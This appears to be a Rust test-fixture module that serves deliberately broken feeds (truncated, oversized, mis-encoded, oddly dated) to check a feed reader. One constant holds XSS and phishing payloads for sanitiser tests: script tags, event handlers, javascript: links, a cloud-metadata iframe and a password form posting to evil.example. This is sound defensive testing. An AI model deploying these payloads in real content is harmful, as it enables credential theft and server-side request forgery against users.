//! Documents that arrive whole and are wrong inside.

use axum::body::Bytes;

use super::{Answer, HTML, RSS, around, feed, feed_with, item};
use crate::reply::Reply;

/// The size of `huge.xml`.
pub(super) const HUGE_BYTES: usize = 200 * 1024 * 1024;
/// How many items `many-items.xml` has.
pub(super) const MANY_ITEMS: usize = 50_000;
/// How many bytes of a title `long-title.xml` has.
pub(super) const LONG_TITLE: usize = 10 * 1024 * 1024;

/// One instant, 2026-01-05T08:00:00Z, in the ways people write it; the last four need a guess.
pub(super) const DATES: &[&str] = &[
    "Mon, 05 Jan 2026 08:00:00 GMT",
    "Mon, 05 Jan 2026 08:00:00 +0000",
    "Mon, 05 Jan 2026 16:00:00 +0800",
    "Mon, 05 Jan 2026 03:00:00 EST",
    "5 Jan 2026 08:00:00 Z",
    "Mon, 5 Jan 26 08:00 UT",
    "Monday, 05-Jan-26 08:00:00 GMT",
    "Mon Jan  5 08:00:00 2026",
    "2026-01-05T08:00:00Z",
    "2026-01-05T16:00:00+08:00",
    "2026-01-05T16:00:00+0800",
    "2026-01-05T08:00:00.000Z",
    "2026-01-05 08:00:00",
    "2026-01-05 08:00",
    "1767600000",
    "1767600000000",
    "2026-01-05",
    "05/01/2026 08:00",
    "January 5, 2026",
    "2026年1月5日 16:00",
];

/// Implausible times.
pub(super) const FUTURES: &[&str] = &[
    "Tue, 05 Jan 2106 08:00:00 GMT",
    "Fri, 31 Dec 9999 23:59:59 GMT",
    "Sat, 05 Jan 292277026596 08:00:00 GMT",
    "Thu, 01 Jan 1970 00:00:00 GMT",
    "Mon, 01 Jan 0001 00:00:00 GMT",
    "Mon, 32 Feb 2026 25:61:61 +9999",
    "yesterday",
    "",
];

pub(super) fn answer(name: &str) -> Option<Answer> {
    Some(Answer::Reply(match name {
        "plain.xml" => feed(&items(0, 5)),
        "not-a-feed.html" => page(HTML, "<h1>Welcome</h1><p>No feed here.</p>"),
        "not-a-feed.txt" => Reply::new("text/plain", "Nothing but words.\n"),
        "not-a-feed.png" => Reply::new("image/png", PNG),
        "image-as-feed.xml" => Reply::new(RSS, PNG),
        "html-as-feed.xml" => page(RSS, "<h1>Sorry<p>This feed was <br>discontinued."),
        "login.html" => login(),
        "empty-feed.xml" => feed(""),
        "empty-body.xml" => Reply::new(RSS, Bytes::new()),
        "truncated.xml" => {
            let whole = feed_with(&items(0, 20));
            let end = whole.rfind("<guid").unwrap_or(0);
            Reply::new(RSS, whole.get(..end).unwrap_or_default().to_owned())
        }
        "truncated.json" => {
            let begun = "{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"A feed\",\"items\":[{\"id\":\"1\",\"title\":\"En";
            Reply::new("application/feed+json", begun)
        }
        "huge.xml" => Reply::pieces(RSS, huge()),
        "huge-declared.xml" => {
            let length = huge().map(|piece| piece.len()).sum::<usize>();
            let reply = Reply::pieces(RSS, huge());
            reply.with("content-length", length.to_string())
        }
        "many-items.xml" => {
            let chunks = (0..MANY_ITEMS).step_by(100);
            let chunks = chunks.map(|from| items(from, from + 100).into());
            Reply::pieces(RSS, made(chunks))
        }
        "long-title.xml" => feed(&format!(
            "<item><title>{}</title></item>",
            "long ".repeat(LONG_TITLE / 5)
        )),
        "wrong-charset.xml" => {
            let text = feed_with("<item><title>Порт открывает двери</title></item>");
            let bytes = encoding_rs::WINDOWS_1251.encode(&text).0.into_owned();
            Reply::new(RSS, bytes)
        }
        "unknown-charset.xml" => {
            let text = feed_with(&items(0, 3)).replace("\"utf-8\"", "\"x-klingon\"");
            Reply::new("application/rss+xml; charset=x-klingon", text)
        }
        "utf-16.xml" => {
            let text = feed_with(&items(0, 3)).replace("utf-8", "utf-16");
            let bytes = std::iter::once(0xFEFF).chain(text.encode_utf16());
            let bytes: Vec<u8> = bytes.flat_map(u16::to_le_bytes).collect();
            Reply::new("application/rss+xml", bytes)
        }
        "control-letters.xml" => {
            feed("<item><title>bell \u{7} nul \u{0} escape \u{1b}[31m</title></item>")
        }
        "duplicate-ids.xml" => feed(&numbered(10, |number| {
            format!("<guid>same-{}</guid>", number % 2)
        })),
        "no-ids.xml" => {
            feed("<item><title>One</title></item><item><title>Two</title></item><item></item>")
        }
        "dates.xml" => feed(&dated(DATES)),
        "futures.xml" => feed(&dated(FUTURES)),
        "no-dates.xml" => feed(&numbered(5, |number| {
            format!("<guid>undated-{number}</guid>")
        })),
        "scripts.xml" => feed(SCRIPTS),
        "hints-absurd.xml" => hints_absurd(),
        "hints-garbage.xml" => feed(
            "<ttl>-5</ttl><skipHours><hour>99</hour><hour>noon</hour></skipHours><skipDays><day>Someday</day></skipDays>",
        ),
        _ => return None,
    }))
}

/// A picture of one pixel.
pub(super) const PNG: &[u8] = &[
    0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89,
];

const SCRIPTS: &str = "\
<item><title>&lt;script&gt;steal()&lt;/script&gt;</title><guid>s1</guid><link>javascript:steal()</link>\
<description><![CDATA[<script>steal()</script><p>text</p>]]></description></item>\
<item><title>Handlers</title><guid>s2</guid>\
<description><![CDATA[<img src=x onerror=steal()><svg onload=steal()></svg><a href=\"java&#10;script:steal()\">x</a>]]></description></item>\
<item><title>Frames</title><guid>s3</guid>\
<description><![CDATA[<iframe src=\"http://169.254.169.254/\"></iframe><form action=\"//evil.example\"><input name=password></form>\
<style>body{display:none}</style><base href=\"//evil.example\"><meta http-equiv=refresh content=\"0;url=//evil.example\">]]></description></item>";

fn page(content_type: &str, body: &str) -> Reply {
    let text = format!(
        "<!doctype html><html><head><title>A page</title></head><body>{body}</body></html>\n"
    );
    Reply::new(content_type, text)
}

fn login() -> Reply {
    page(
        HTML,
        "<h1>Sign in to continue</h1><form method=\"post\" action=\"/login\"><input name=\"user\">\
         <input name=\"password\" type=\"password\"><button>Sign in</button></form>",
    )
}

fn hints_absurd() -> Reply {
    let hour = |hour| format!("<hour>{hour}</hour>");
    let hours: String = (0..24).map(hour).collect();
    let day = |day| format!("<day>{day}</day>");
    let days = "Monday Tuesday Wednesday Thursday Friday Saturday Sunday".split(' ');
    let days: String = days.map(day).collect();
    let items = format!(
        "<ttl>999999999</ttl><skipHours>{hours}</skipHours><skipDays>{days}</skipDays>{}",
        item(1)
    );
    feed(&items).with("cache-control", "public, max-age=3153600000")
}

fn items(from: usize, until: usize) -> String {
    (from..until).map(item).collect()
}

fn numbered(count: usize, inside: fn(usize) -> String) -> String {
    let one = |number: usize| {
        format!(
            "<item><title>Entry {number}</title>{}</item>\n",
            inside(number)
        )
    };
    (0..count).map(one).collect()
}

fn dated(dates: &[&str]) -> String {
    let one = |(number, date): (usize, &&str)| {
        format!(
            "<item><title>{date}</title><guid>date-{number}</guid><pubDate>{date}</pubDate></item>\n"
        )
    };
    dates.iter().enumerate().map(one).collect()
}

/// A feed that is made while it is sent.
fn made(
    chunks: impl Iterator<Item = Bytes> + Send + 'static,
) -> impl Iterator<Item = Bytes> + Send + 'static {
    let (head, tail) = around();
    std::iter::once(head.into())
        .chain(chunks)
        .chain([tail.into()])
}

fn huge() -> impl Iterator<Item = Bytes> + Send + 'static {
    let chunk = Bytes::from(items(0, 256));
    let times = HUGE_BYTES.div_ceil(chunk.len());
    made(std::iter::repeat_n(chunk, times))
}
